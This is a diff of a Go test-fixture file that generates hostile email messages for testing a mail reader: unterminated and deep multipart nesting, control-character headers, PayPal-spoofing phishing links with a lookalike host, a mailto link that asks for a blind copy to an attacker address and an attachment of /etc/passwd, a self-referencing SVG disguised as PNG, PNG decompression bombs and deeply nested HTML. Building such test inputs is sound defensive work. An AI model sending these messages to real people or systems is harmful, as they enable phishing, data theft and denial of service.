@@ -23,13 +23,17 @@ import (
 	"sync"
 )
 
+// Date is the date every corpus message carries (RFC 5322 form); a test
+// that needs another order replaces it.
+const Date = "Mon, 2 Mar 2026 10:00:00 +0000"
+
 // header writes a plain header block with the given subject and extra
 // header lines (each without its line end).
 func header(b *bytes.Buffer, subject string, extra ...string) {
 	b.WriteString("From: Stranger <stranger@example.com>\r\n")
 	b.WriteString("To: Reader <reader@example.org>\r\n")
 	b.WriteString("Subject: " + subject + "\r\n")
-	b.WriteString("Date: Mon, 2 Mar 2026 10:00:00 +0000\r\n")
+	b.WriteString("Date: " + Date + "\r\n")
 	b.WriteString("Message-ID: <hostile." + strings.ReplaceAll(strings.ToLower(subject), " ", "-") + "@example.com>\r\n")
 	b.WriteString("MIME-Version: 1.0\r\n")
 	for _, l := range extra {
@@ -42,15 +46,7 @@ func header(b *bytes.Buffer, subject string, extra ...string) {
 // multipart without its end as something else take time doubling with
 // each level: at 26 levels a naive parser spends most of a minute.
 func UnterminatedNesting(depth int) []byte {
-	var b bytes.Buffer
-	header(&b, fmt.Sprintf("Unterminated nesting %d", depth), `Content-Type: multipart/mixed; boundary="`+boundary(0)+`"`)
-	b.WriteString("\r\n")
-	for i := 1; i <= depth; i++ {
-		fmt.Fprintf(&b, "--%s\r\nContent-Type: multipart/mixed; boundary=\"%s\"\r\n\r\n", boundary(i-1), boundary(i))
-		fmt.Fprintf(&b, "preamble %d\r\n", i)
-	}
-	fmt.Fprintf(&b, "--%s\r\nContent-Type: text/plain\r\n\r\nThe innermost text.\r\n", boundary(depth))
-	return b.Bytes()
+	return nesting(fmt.Sprintf("Unterminated nesting %d", depth), depth, true).Bytes()
 }
 
 // HiddenDelimiterNesting is UnterminatedNesting with each level's first
@@ -69,6 +65,23 @@ func HiddenDelimiterNesting(depth int) []byte {
 	return b.Bytes()
 }
 
+// nesting writes a message of depth nested multipart/mixed parts (each
+// with a line of preamble when preamble is set) down to one text part,
+// without any closing delimiter.
+func nesting(subject string, depth int, preamble bool) *bytes.Buffer {
+	var b bytes.Buffer
+	header(&b, subject, `Content-Type: multipart/mixed; boundary="`+boundary(0)+`"`)
+	b.WriteString("\r\n")
+	for i := 1; i <= depth; i++ {
+		fmt.Fprintf(&b, "--%s\r\nContent-Type: multipart/mixed; boundary=\"%s\"\r\n\r\n", boundary(i-1), boundary(i))
+		if preamble {
+			fmt.Fprintf(&b, "preamble %d\r\n", i)
+		}
+	}
+	fmt.Fprintf(&b, "--%s\r\nContent-Type: text/plain\r\n\r\nThe innermost text.\r\n", boundary(depth))
+	return &b
+}
+
 // boundary is the delimiter of nesting level i: all have the same length,
 // so none is the beginning of another (RFC 2046 section 5.1.1).
 func boundary(i int) string { return fmt.Sprintf("lvl%05d", i) }
@@ -78,15 +91,9 @@ func boundary(i int) string { return fmt.Sprintf("lvl%05d", i) }
 // part's content once per level take time quadratic in depth: 8,000
 // levels (about 550 KB) took 26 seconds.
 func ClosedNesting(depth int) []byte {
-	var b bytes.Buffer
-	header(&b, fmt.Sprintf("Closed nesting %d", depth), `Content-Type: multipart/mixed; boundary="`+boundary(0)+`"`)
-	b.WriteString("\r\n")
-	for i := 1; i <= depth; i++ {
-		fmt.Fprintf(&b, "--%s\r\nContent-Type: multipart/mixed; boundary=\"%s\"\r\n\r\n", boundary(i-1), boundary(i))
-	}
-	fmt.Fprintf(&b, "--%s\r\nContent-Type: text/plain\r\n\r\nThe innermost text.\r\n", boundary(depth))
+	b := nesting(fmt.Sprintf("Closed nesting %d", depth), depth, false)
 	for i := depth; i >= 0; i-- {
-		fmt.Fprintf(&b, "--%s--\r\n", boundary(i))
+		fmt.Fprintf(b, "--%s--\r\n", boundary(i))
 	}
 	return b.Bytes()
 }
@@ -173,7 +180,7 @@ func ControlCharacters() []byte {
 	b.WriteString("From: " + enc("Bank\r\nTo: you@bank.example") + " <stranger@example.com>\r\n")
 	b.WriteString("To: Reader <reader@example.org>\r\n")
 	b.WriteString("Subject: " + enc(ControlSubject) + "\r\n")
-	b.WriteString("Date: Mon, 2 Mar 2026 10:00:00 +0000\r\n")
+	b.WriteString("Date: " + Date + "\r\n")
 	b.WriteString("Message-ID: <hostile.control@example.com>\r\n")
 	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n")
 	b.WriteString("Body with an escape \x1b[31mred\x1b[0m and a bell \x07.\r\n")
@@ -198,16 +205,22 @@ func PaddedExecutable() []byte {
 }
 
 // PhishingLinks returns an HTML message whose link texts are web addresses
-// of one site while their targets are another, and whose sender's display
-// name embeds a different address than the one it was sent from.
+// of one site while their targets are another, whose sender's display
+// name embeds a different address than the one it was sent from, whose
+// replies go elsewhere (Reply-To), and with a mailto: link that asks for
+// a blind copy and an attachment.
 func PhishingLinks() []byte {
 	var b bytes.Buffer
 	b.WriteString("From: \"PayPal <service@paypal.com>\" <evil@attacker.example>\r\n")
+	b.WriteString("Reply-To: refunds@elsewhere.example\r\n")
 	b.WriteString("To: Reader <reader@example.org>\r\nSubject: Your account is limited\r\n")
-	b.WriteString("Date: Mon, 2 Mar 2026 10:00:00 +0000\r\nMessage-ID: <hostile.phishing@example.com>\r\n")
+	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.phishing@example.com>\r\n")
 	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
 	b.WriteString(`<p>Please confirm your details at <a href="https://attacker.example/login">https://www.paypal.com/signin</a>.</p>` + "\r\n")
 	b.WriteString(`<p><a href="http://10.0.0.1/">Click here</a> or <a href="https://xn--pypal-4ve.com/">www.paypal.com</a>.</p>` + "\r\n")
+	b.WriteString(`<p>Read <a href="https://help.example.org/faq">our help</a>, visit <a href="https://` + LookalikeHost + `/">https://` +
+		LookalikeHost + `/</a> or <a href="mailto:support@example.org?subject=Help&amp;cc=boss@example.org&amp;bcc=spy@attacker.example` +
+		`&amp;attach=/etc/passwd&amp;body=Hi%0Athere">write</a>.</p>` + "\r\n")
 	return b.Bytes()
 }
 
@@ -221,7 +234,7 @@ func LookalikeSender() []byte {
 	var b bytes.Buffer
 	b.WriteString("From: PayPal <service@" + LookalikeHost + ">\r\n")
 	b.WriteString("To: Reader <reader@example.org>\r\nSubject: Security notice\r\n")
-	b.WriteString("Date: Mon, 2 Mar 2026 10:00:00 +0000\r\nMessage-ID: <hostile.lookalike@example.com>\r\n")
+	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.lookalike@example.com>\r\n")
 	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
 	b.WriteString(`<p>Sign in at <a href="https://` + LookalikeHost + `/signin">https://` + LookalikeHost + `/signin</a>.</p>` + "\r\n")
 	return b.Bytes()
@@ -233,24 +246,44 @@ func LookalikeSender() []byte {
 const SelfReferencingSVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">` +
 	`<g id="loop"><use xlink:href="#loop" href="#loop"/></g></svg>`
 
-// InlineSVGLoop returns an HTML message showing SelfReferencingSVG as an
-// inline image/svg+xml part referenced by cid.
+// InlineSVGLoop returns an HTML message showing SelfReferencingSVG twice
+// by cid: as an inline image/svg+xml part, and as a part that declares
+// itself image/png.
 func InlineSVGLoop() []byte {
 	var b bytes.Buffer
 	header(&b, "Inline SVG loop", `Content-Type: multipart/related; boundary="svg"`)
 	b.WriteString("\r\n--svg\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
-	b.WriteString(`<p>Logo: <img src="cid:loop@example.com"></p>` + "\r\n")
+	b.WriteString(`<p>Logo: <img src="cid:loop@example.com" alt="logo"> <img src="cid:disguised@example.com" alt="photo"></p>` + "\r\n")
 	b.WriteString("--svg\r\nContent-Type: image/svg+xml\r\nContent-ID: <loop@example.com>\r\n")
 	b.WriteString("Content-Disposition: inline; filename=\"logo.svg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
 	b.WriteString(wrap76(base64.StdEncoding.EncodeToString([]byte(SelfReferencingSVG))))
+	// The same SVG declared as a PNG: a window that trusts the declared
+	// type hands it to the SVG decoder all the same.
+	b.WriteString("--svg\r\nContent-Type: image/png\r\nContent-ID: <disguised@example.com>\r\n")
+	b.WriteString("Content-Disposition: inline; filename=\"photo.png\"\r\n\r\n")
+	b.WriteString(SelfReferencingSVG + "\r\n")
 	b.WriteString("--svg--\r\n")
 	return b.Bytes()
 }
 
 // PNGBomb returns a valid PNG of width × height black grayscale pixels.
 // Its compressed data is small (about 560 KB at 12,000 × 12,000) but it
-// decodes to width × height bytes or more.
+// decodes to width × height bytes or more. Each size is made once per
+// process (compressing 144 million pixels takes a second); callers share
+// the slice and must not change it.
 func PNGBomb(width, height int) []byte {
+	key := [2]int{width, height}
+	if b, ok := bombs.Load(key); ok {
+		return b.([]byte)
+	}
+	b, _ := bombs.LoadOrStore(key, makePNGBomb(width, height))
+	return b.([]byte)
+}
+
+// bombs holds the PNG bombs made so far, by size.
+var bombs sync.Map
+
+func makePNGBomb(width, height int) []byte {
 	var out bytes.Buffer
 	out.Write([]byte("\x89PNG\r\n\x1a\n"))
 	ihdr := make([]byte, 13)
@@ -299,14 +332,43 @@ func InlinePNGBomb() []byte {
 	b.WriteString(`<p>Photo: <img src="cid:bomb@example.com"></p>` + "\r\n")
 	b.WriteString("--png\r\nContent-Type: image/png\r\nContent-ID: <bomb@example.com>\r\n")
 	b.WriteString("Content-Disposition: inline; filename=\"photo.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
-	b.WriteString(wrap76(base64.StdEncoding.EncodeToString(bomb())))
+	b.WriteString(wrap76(base64.StdEncoding.EncodeToString(PNGBomb(12000, 12000))))
 	b.WriteString("--png--\r\n")
 	return b.Bytes()
 }
 
-// bomb is PNGBomb(12000, 12000), made once: compressing its 144 MB of
-// pixels takes a second.
-var bomb = sync.OnceValue(func() []byte { return PNGBomb(12000, 12000) })
+// LargePictures returns an HTML message showing four inline PNG
+// pictures of 6,000 × 6,000 pixels each: every one is within the limit
+// of a single picture, but together they would decode to 144 million
+// pixels.
+func LargePictures() []byte {
+	var b bytes.Buffer
+	header(&b, "Four large pictures", `Content-Type: multipart/related; boundary="pics"`)
+	b.WriteString("\r\n--pics\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>")
+	for i := 1; i <= 4; i++ {
+		fmt.Fprintf(&b, `<img src="cid:p%d@example.com" alt="picture %d">`, i, i)
+	}
+	b.WriteString("</p>\r\n")
+	pic := wrap76(base64.StdEncoding.EncodeToString(PNGBomb(6000, 6000)))
+	for i := 1; i <= 4; i++ {
+		fmt.Fprintf(&b, "--pics\r\nContent-Type: image/png\r\nContent-ID: <p%d@example.com>\r\n", i)
+		b.WriteString("Content-Disposition: inline; filename=\"picture.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
+		b.WriteString(pic)
+	}
+	b.WriteString("--pics--\r\n")
+	return b.Bytes()
+}
+
+// DeepHTML returns an HTML message whose text sits inside depth levels of
+// nested elements: a renderer that recurses per element runs out of
+// stack, one that copies styles per level runs out of time.
+func DeepHTML(depth int) []byte {
+	var b bytes.Buffer
+	header(&b, fmt.Sprintf("Deep HTML %d", depth), "Content-Type: text/html; charset=utf-8")
+	b.WriteString("\r\n")
+	b.WriteString(strings.Repeat("<div><b><i>", depth) + "deep" + strings.Repeat("</i></b></div>", depth) + "\r\n")
+	return b.Bytes()
+}
 
 // wrap76 breaks base64 text into lines of 76 characters (RFC 2045
 // section 6.8).
@@ -335,5 +397,7 @@ func All() map[string][]byte {
 		"lookalike":       LookalikeSender(),
 		"svg-loop":        InlineSVGLoop(),
 		"png-bomb":        InlinePNGBomb(),
+		"large-pictures":  LargePictures(),
+		"deep-html":       DeepHTML(20000),
 	}
 }
